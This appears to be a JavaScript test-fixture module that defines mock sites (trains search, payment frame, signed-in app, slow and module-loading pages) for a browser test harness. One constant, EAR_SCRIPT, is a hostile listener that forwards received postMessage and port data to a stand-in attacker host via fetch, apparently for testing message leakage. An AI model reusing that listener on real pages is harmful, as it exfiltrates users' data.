// What public and signed-in pages reach for elsewhere: interfaces, pictures, frames, code.
import { file, json, page, raw } from './html.mjs';
import { HOSTS } from './world.mjs';

export const [TRAINS, API, PICTURES] = ['trains.example', 'trains-api.example', 'trains-pictures.example'];
export const [PAY, PAY_CODE, PAY_API] = ['payframe.example', 'payframe-code.example', 'payframe-api.example'];
export const [APP, EAR] = ['signedin.example', 'ear.example'];
/** Tells what it hears to where it likes. */
const EAR_SCRIPT = `const tell = (what) => fetch('http://${HOSTS.attacker}/c/heard?d=' + encodeURIComponent(what), { mode: 'no-cors' });
onmessage = ({ data, ports: [port] }) => { tell(data); if (port) port.onmessage = (event) => tell(event.data); };
parent.postMessage('listening', '*');`;
export const [SLOW, SLOW_CODE] = ['slow.example', 'slow-code.example'];
export const ELSEWHERE = 'elsewhere.example';
export const PIECES = 'pieces.example';
export const [MADE_OF, PARTS, OF_PARTS] = ['modules.example', 'modules-parts.example', 'modules-of-parts.example'];
export const PROMPT = 'prompt.example';
let prompted = () => undefined;
/** @param then done when its document is asked for, which it then answers at once */
export const onPrompt = (then) => {
  prompted = then;
};
export const PICKER = 'picker.example';
/** Later than any document is fresh, parsed or not. */
export const STALE_MS = 4_300;

/** Written by script, from an interface and with pictures that are elsewhere. */
const LIST = `<button>Search</button><ul></ul><script>document.querySelector('button').onclick = async () => {
  const found = await (await fetch('http://${API}/search', { method: 'POST', body: 'from=Galway' })).json();
  document.querySelector('ul').innerHTML = found.map((t) => '<li>' + t + '<img src="http://${PICTURES}/' + t + '.svg" width="20" height="20">').join('');
};</script>`;
/** What a payment provider's frame is made of comes from another domain of its; told to, it asks for more. */
const PAY_SCRIPT = `document.querySelector('p').textContent = 'card number';
fetch('http://${PAY_API}/', { method: 'POST', body: '{}' }).then(() => parent.postMessage('made', '*'));
onmessage = () => import('http://${ELSEWHERE}/late.js').catch(() => {});`;
const open = { 'access-control-allow-origin': '*' };
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"/>';
/** Hosts for `startSites({extra})`. */
export const reached = {
  [TRAINS]: ({ path }) =>
    path === '/plan.svg' ? file('image/svg+xml', SVG) : page({ title: 'Trains', name: 'Trains', body: raw(LIST) }),
  [API]: () => json(['seven', 'nine'], open),
  [PICTURES]: () => file('image/svg+xml', SVG, open),
  [PAY]: ({ path }) =>
    path === '/sdk.js'
      ? file('text/javascript', '', open)
      : page({
          title: 'Card',
          name: 'Card',
          body: raw(`<p>no card yet</p><script src="http://${PAY_CODE}/pay.js"></script>`),
        }),
  [EAR]: () => page({ title: 'Ear', name: 'Ear', body: raw(`<script>${EAR_SCRIPT}</script>`) }),
  [APP]: () =>
    page({
      title: 'Your plan',
      name: 'App',
      body: raw(`<a href="/logout">Sign out</a><p>Plan: Harbour 7</p><script src="http://${PAY}/sdk.js"></script>`),
    }),
  [SLOW]: async () => {
    await new Promise((later) => setTimeout(later, STALE_MS));
    return page({
      title: 'Slow',
      name: 'Slow',
      body: raw(`<p>bare</p><script src="http://${SLOW_CODE}/made.js"></script>`),
    });
  },
  [SLOW_CODE]: () => file('text/javascript', "document.querySelector('p').textContent = 'made of its code'", open),
  [PAY_API]: () => json({}, open),
  [PAY_CODE]: () => file('text/javascript', PAY_SCRIPT, open),
  [ELSEWHERE]: () => json([], open),
  [MADE_OF]: () =>
    page({
      title: 'Modules',
      name: 'Modules',
      body: raw(`<p>bare</p><script type="module" src="http://${PARTS}/app.js"></script>`),
    }),
  // Later than a page tells who it is.
  [PARTS]: async () => {
    await new Promise((later) => setTimeout(later, 300));
    return file(
      'text/javascript',
      `import { text } from 'http://${OF_PARTS}/text.js'; document.querySelector('p').textContent = text;`,
      open,
    );
  },
  [OF_PARTS]: () => file('text/javascript', 'export const text = "made of modules"', open),
  [PROMPT]: ({ path }) => {
    if (path !== '/')
      return file('text/javascript', "document.querySelector('p').textContent = 'made by its own script'");
    prompted();
    return page({ title: 'Prompt', name: 'Prompt', body: raw('<p>bare</p><script src="/own.js"></script>') });
  },
  [PICKER]: () => file('text/html', "<script>opener.postMessage('chosen', '*'); close();</script>"),
  [PIECES]: () => file('text/javascript', 'export const name = "editor"', open),
};
